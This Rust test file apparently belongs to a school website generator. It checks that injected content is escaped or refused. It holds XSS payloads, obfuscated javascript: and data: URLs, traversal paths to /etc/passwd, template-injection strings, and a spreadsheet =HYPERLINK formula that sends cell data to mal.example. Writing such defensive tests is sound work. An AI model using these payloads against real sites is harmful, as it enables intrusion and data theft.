//! What an ill-meant text, file or neighbour could do, and does not: the lines of `tests/threats.md` that no other test held.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use crate::disk::published;
use crate::fuzz::targets::{Place, is_harmless};
use crate::project::{Project, Run, photo};

/// Ways to start a program from a text.
const SCRIPTS: [&str; 12] = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\"><img src=../flux.xml alt=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "</script><script>alert(1)//",
    "<svg/onload=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src=../flux.xml alt=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=../flux.xml alt=x onerror=alert(1)>\">",
    "<!--><img src=../flux.xml alt=x onerror=alert(1)>-->",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=../flux.xml style='background:url(javascript:alert(1))'>x</a>",
    "]]><script>alert(1)</script>",
];

/// All that a browser opens of what was made: nothing of a text is an element or an event there.
#[track_caller]
fn harms_nobody(run: &Run) {
    let files = published(&run.project);
    assert!(files.contains_key("public/index.html"), "{}", run.screen);
    for (path, bytes) in &files {
        let Ok(text) = std::str::from_utf8(bytes) else { continue };
        if path.ends_with(".html") {
            let place = if path.starts_with("public/") { Place::Portal } else { Place::Document };
            is_harmless(text, path, place);
            let scripts = text.split("<script").skip(1).map(|rest| rest.split("</script").next().unwrap());
            scripts.for_each(|script| {
                assert!(!script.trim_start_matches(|c| c != '>').starts_with(">alert"), "{path}: {script}")
            });
        } else if path.ends_with(".xml") || path.ends_with(".svg") {
            let read = resvg::usvg::roxmltree::Document::parse(text).unwrap_or_else(|error| panic!("{path}: {error}"));
            let names: BTreeSet<&str> = read.descendants().map(|node| node.tag_name().name()).collect();
            assert!(!names.contains("script") && !names.contains("iframe"), "{path}: {names:?}");
        } else if path.ends_with(".json") || path.ends_with(".webmanifest") {
            assert!(serde_json::from_str::<serde_json::Value>(text).is_ok(), "{path}");
        }
    }
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

#[test]
fn script_in_a_body_a_key_or_a_name_never_starts() {
    let mut project = Project::new()
        .bytes("content/pages/rue.png", &photo(10))
        .edit(
            "content/personnes.yaml",
            "prenom: Léa",
            &format!("prenom: {}", quoted("Léa\"><img src=../flux.xml alt=x onerror=alert(1)>")),
        )
        .edit(
            "content/site.yaml",
            "nom: Lycée Charles Alliès",
            &format!("nom: {}\npromesse: {}", quoted(SCRIPTS[0]), quoted(SCRIPTS[2])),
        )
        .edit("content/mobilites/caspe-2026.md", "ville: Caspe", &format!("ville: {}", quoted(SCRIPTS[1])));
    for (n, script) in SCRIPTS.iter().enumerate() {
        let value = quoted(script);
        let text = format!(
            "---\ntitre: {value}\nresume: {value}\netiquettes: [{value}]\nimage: {{fichier: rue.png, alt: {value}, legende: {value}, credit: {value}, personne_reconnaissable: non}}\n---\n\n\
             ## Titre {script}\n\n{script}\n\n- {script}\n\n| {} | b |\n|---|---|\n| 1 | 2 |\n\n::: question {script}\n{script}\n:::\n\n::: figure\nimage: rue.png\nalt: {value}\nlegende: {value}\npersonne_reconnaissable: non\n:::\n",
            script.replace('|', ""),
        );
        project = project.file(&format!("content/pages/page-{n}.md"), &text);
    }
    let event = format!(
        "---\ntitre: {0}\ngenre: jpo\ndebut: 2027-02-06 09:00\nlieu: {0}\nprogramme:\n  - {{heure: \"10:00\", titre: {0}}}\n---\n\nTexte.\n",
        quoted(SCRIPTS[4])
    );
    // A name that Linux takes, and a copy from elsewhere could bear.
    let run = project
        .file("content/evenements/x.md", &event)
        .file("content/pages/<img src=x onerror=alert(1)>.md", "---\ntitre: Nom\n---\n\nTexte.\n")
        .build();
    let run = run.code(0).shows("public/page-0/index.html", "&lt;script&gt;");
    harms_nobody(&run);
}

#[test]
fn an_address_that_starts_a_program_leads_nowhere_however_it_is_typed() {
    let typed = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java&#10;script:alert(1)",
        "java&Tab;script:alert(1)",
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "&#x1;javascript:alert(1)",
        "vbscript:x",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "DATA:image/svg+xml,<svg onload=alert(1)>",
        "blob:https://x/1",
        "feed:javascript:alert(1)",
        "jav\\ascript:alert(1)",
    ];
    let mut project = Project::new();
    let mut count = 0;
    for address in typed {
        let ways = [
            format!("[x]({address})"),
            format!("[x](<{address}>)"),
            format!("[x][1]\n\n[1]: <{address}>"),
            format!("<{address}>"),
            format!("![x]({address})"),
            format!("<a href=\"{address}\">x</a>"),
            format!("<form action=\"{address}\"><button formaction=\"{address}\">x</button></form>"),
            format!("<img src=\"{address}\" alt=\"x\">"),
            format!("::: video Un film\nurl: \"{address}\"\ntranscription: Des mots.\n:::"),
        ];
        for way in ways {
            let text = format!("---\ntitre: Page {count}\n---\n\n{way}\n");
            project = project.file(&format!("content/pages/page-{count}.md"), &text);
            count += 1;
        }
    }
    // Most are refused, each with its file; what is left in a page leads nowhere.
    let mut run = project.build().code(1);
    while run.code == 1 {
        assert!(!run.project.exists("public"));
        let (screen, mut left) = (run.screen.clone(), run.again());
        let before = count;
        for named in screen.split("content/pages/page-").skip(1) {
            let number = named.split('.').next().unwrap();
            let path = format!("content/pages/page-{number}.md");
            if left.exists(&path) {
                (left, count) = (left.without(&path), count - 1);
            }
        }
        assert!(count < before, "{screen}");
        run = left.build();
    }
    assert!(count > 0, "some texts have nothing left that leads anywhere");
    harms_nobody(&run);
}

#[test]
fn an_address_in_a_key_is_of_the_web() {
    for address in [
        "javascript:alert(1)",
        "JAVASCRIPT:x",
        "data:text/html,x",
        "java\\tscript:x",
        "//mal.example",
        "file:///etc/passwd",
    ] {
        let event =
            format!("---\ntitre: Un\ngenre: jpo\ndebut: 2027-02-06 09:00\ninscription: \"{address}\"\n---\n\nTexte.\n");
        let run = Project::new().file("content/evenements/x.md", &event).check().code(1);
        assert!(run.screen.contains("n’est pas une adresse web"), "{address}: {}", run.screen);
    }
}

#[test]
fn signs_of_templates_are_words() {
    let signs = [
        "{{ 7 * 191 }}",
        "{{ site.nom }}",
        "{% include \"base.html\" %}",
        "{# rien #}",
        "{{ get_env(name='HOME') }}",
        "${7*191}",
        "<%= 7*191 %>",
    ];
    let all = signs.join(" ");
    let run = Project::new()
        .edit("content/site.yaml", "nom: Lycée Charles Alliès", &format!("nom: {}", quoted(&format!("Lycée {all}"))))
        .edit("content/personnes.yaml", "prenom: Léa", &format!("prenom: {}", quoted("{{ 7 * 191 }}")))
        .edit(
            "content/temoignages/lea.md",
            "titre: Léa à Caspe",
            &format!("titre: {}\nresume: {}", quoted(&all), quoted(&all)),
        )
        .edit("content/temoignages/lea.md", "Neuf semaines", &format!("{all}\n\nNeuf semaines"))
        .file(
            "content/evenements/x.md",
            &format!("---\ntitre: {0}\ngenre: radio\ndebut: 2026-12-06 09:00\n---\n\n{all}\n", quoted(&all)),
        )
        .build()
        .code(0);
    let text = run.project.read("public/temoignages/lea/index.html");
    for sign in ["{{ 7 * 191 }}", "{{ site.nom }}", "{# rien #}", "${7*191}"] {
        assert!(text.contains(sign), "{sign} is not in the page");
    }
    for (path, bytes) in published(&run.project) {
        let Ok(text) = String::from_utf8(bytes) else { continue };
        let is_number = crate::project::word(&text, "1337").is_some();
        assert!(!is_number, "computed in {path}");
    }
}

/// The file that the text asks for exists, and is a photo that could be published.
#[track_caller]
fn leads_nowhere(run: &Run) {
    let words = ["n’est pas un fichier posé à côté de ce texte", "est introuvable", "ne mène à aucun fichier"];
    let first = run.screen.lines().next().unwrap_or_default();
    assert!(words.iter().any(|words| first.contains(words)), "{}", run.screen);
}

#[test]
fn no_path_of_a_text_leads_out_of_the_content() {
    let paths = [
        "../../secret.png",
        "../../../../../../../../etc/passwd",
        "/etc/passwd",
        "..%2f..%2fsecret.png",
        "..\\..\\secret.png",
        "file:///etc/passwd",
        "C:\\secret.png",
        "\\\\poste\\partage\\secret.png",
        "../personnes.yaml",
    ];
    for path in paths {
        let figure = format!("::: figure\nimage: {path}\nalt: x\npersonne_reconnaissable: non\n:::\n");
        let texts = [
            format!("---\ntitre: Un\nimage: {{fichier: {}, alt: x}}\n---\n\nTexte.\n", quoted(path)),
            format!("---\ntitre: Un\n---\n\n![x](<{path}>)\n\n[x](<{path}>)\n\n{figure}"),
        ];
        for text in texts {
            let run = Project::new().bytes("secret.png", &photo(10)).file("content/pages/un.md", &text).build().code(1);
            leads_nowhere(&run);
            assert!(run.screen.contains("content/pages/un.md:"), "{path}: {}", run.screen);
            assert!(!run.project.exists("public"), "{path}");
        }
        let proof = format!("---\ntitre: Un\ndate: 2026-11-02\nsupport: presse\npreuve: {}\n---\n", quoted(path));
        let run = Project::new().bytes("secret.png", &photo(10)).file("content/parutions/un.md", &proof).build();
        leads_nowhere(&run);
        assert_eq!(run.code, 1, "{path}: {}", run.screen);
    }
}

#[test]
fn a_theme_reads_no_other_file() {
    for path in ["../../secret.html", "/etc/passwd", "../../content/personnes.yaml"] {
        let run = Project::new()
            .file("secret.html", "Ce que personne ne publie")
            .file("themes/lycee-europeen/templates/page.html", &format!("{{% include \"{path}\" %}}"))
            .build()
            .code(1);
        assert!(!run.project.exists("public"), "{path}");
        run.screen(&format!("le modèle «\u{a0}{path}\u{a0}» n’existe pas"));
    }
}

/// A first name is looked for letter by letter, and shown as it is.
#[test]
fn a_first_name_with_signs_is_a_first_name() {
    let names = ["A.*", "[a-z]+", "(?i)neuf", "$1", "{{ x }}", "<b>Zoé</b>", "\\d", "Zoé|Neuf"];
    for name in names {
        let hidden = format!("zoe:\n  prenom: {}\n  majeur: oui\n", quoted(name));
        let register = include_str!("../sound/personnes.yaml").to_string() + &hidden;
        let run = Project::new()
            .file("content/personnes.yaml", &register)
            .edit("content/temoignages/lea.md", "Neuf semaines", "Neuf semaines abc 12")
            .build()
            .code(0)
            .shows("public/temoignages/lea/index.html", "Neuf semaines abc 12")
            .shows("public/temoignages/lea/index.html", "Léa");
        harms_nobody(&run);
    }
    let shown =
        Project::new().edit("content/personnes.yaml", "prenom: Léa", "prenom: '<b>L.*</b> {{ 1 }}'").build().code(0);
    harms_nobody(&shown);
    let page = shown.project.read("public/temoignages/lea/index.html");
    assert!(page.contains("&lt;b&gt;L.*&lt;") && !page.contains("<b>L.*"), "{page}");
}

/// It would be looked for in every text, and folded for every word of it.
#[test]
fn a_first_name_without_end_is_refused() {
    let name = "Aé".repeat(100_000);
    let screen =
        Project::new().edit("content/personnes.yaml", "prenom: Léa", &format!("prenom: {name}")).build().code(1);
    screen.screen("ce prénom compte 200000\u{a0}signes, 80 au plus").lacks("public");
}

/// Whoever reads a style goes down by recursion.
#[test]
fn a_style_that_nests_without_end_is_refused() {
    let calculated = format!("p {{}}\na {{ width: calc({}1px) }}", "(".repeat(20_000));
    // What a comment closes is not closed.
    for deep in ["a{".repeat(20_000), "a{/*}*/".repeat(20_000), calculated] {
        let run = Project::new().file("themes/lycee-europeen/static/style.css", &deep).build().code(1);
        let line = if deep.starts_with('p') { 2 } else { 1 };
        run.screen("cette feuille de style emboîte plus de 50\u{a0}blocs ou parenthèses les uns dans les autres")
            .screen(&format!("themes/lycee-europeen/static/style.css:{line}:1"))
            .lacks("public");
    }
}

#[test]
fn a_table_computes_nothing_that_a_text_says() {
    let formula = "=HYPERLINK(\"http://mal.example/?\"&A1)";
    let run = Project::new()
        .file(
            "content/parutions/un.md",
            &format!("---\ntitre: {0}\ndate: 2026-11-02\nsupport: presse\nmedia: midi-libre\n---\n", quoted(formula)),
        )
        .edit("content/mobilites/caspe-2026.md", "titre: Neuf semaines à Caspe", &format!("titre: {}", quoted(formula)))
        .build()
        .code(0);
    let tables: Vec<_> = published(&run.project).into_iter().filter(|(path, _)| path.ends_with(".csv")).collect();
    assert!(!tables.is_empty());
    for (path, bytes) in tables {
        let text = String::from_utf8(bytes).unwrap();
        let cells =
            text.lines().flat_map(|line| line.split(';')).map(|cell| cell.trim_start_matches(['\u{feff}', '"']));
        let computed: Vec<&str> = cells.filter(|cell| cell.starts_with(['=', '@', '+', '-'])).collect();
        assert_eq!(computed, Vec::<&str>::new(), "{path}");
    }
}

/// A note beside the folder that somebody else wrote could make us delete their files.
#[test]
fn a_manifest_that_leads_out_of_its_folder_is_not_believed() {
    let project = Project::new().build().code(0).again().file("a-moi.txt", "à moi");
    let path = ".public.manifeste.json";
    for name in ["../a-moi.txt", "/nulle-part/x", "a/../../a-moi.txt", "..\\\\a-moi.txt"] {
        let text = project.read(path);
        let spoilt = text.replacen("\"404.html\"", &format!("\"{name}\""), 1);
        assert_ne!(spoilt, text);
        fs::write(project.path(path), &spoilt).unwrap();
        let output = project.command(&["build", "--date", "2026-11-24"]).output().unwrap();
        let screen = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(2), "{name}: {screen}");
        assert!(screen.contains("est illisible"), "{name}: {screen}");
        assert_eq!(project.read("a-moi.txt"), "à moi");
        fs::write(project.path(path), text).unwrap();
    }
}

/// Names of the tests under a folder, alone and with the name of their file.
fn tests_of(folder: &str, found: &mut BTreeSet<String>) {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join(folder);
    for entry in walkdir::WalkDir::new(root).into_iter().map(Result::unwrap) {
        if entry.path().extension().is_some_and(|end| end == "rs") {
            let text = fs::read_to_string(entry.path()).unwrap();
            let file = entry.path().file_stem().unwrap().to_str().unwrap();
            for rest in text.split("#[test]").skip(1) {
                let name = rest.split("fn ").nth(1).unwrap().split(['(', '<']).next().unwrap();
                found.extend([name.to_string(), format!("{file}::{name}")]);
            }
            // Each is a test on native events, and one on polling.
            for rest in text.split("cases![").skip(1) {
                found.extend(rest.split(']').next().unwrap().split(',').map(|name| name.trim().to_string()));
            }
        }
    }
}

#[test]
fn every_guard_of_the_table_has_its_test() {
    let table = include_str!("../threats.md");
    let mut known = BTreeSet::new();
    tests_of("src", &mut known);
    tests_of("tests/it", &mut known);
    let mut lines = 0;
    for line in table
        .lines()
        .filter(|line| line.starts_with("| ") && !line.starts_with("| Threat") && !line.starts_with("| ---"))
    {
        let tests = line.trim_end_matches('|').rsplit('|').next().unwrap();
        let named: Vec<&str> = tests.split('`').skip(1).step_by(2).collect();
        assert!(!named.is_empty(), "{line}");
        for name in named {
            assert!(known.contains(name), "no test is called {name}");
        }
        lines += 1;
    }
    assert!(lines > 20);
}
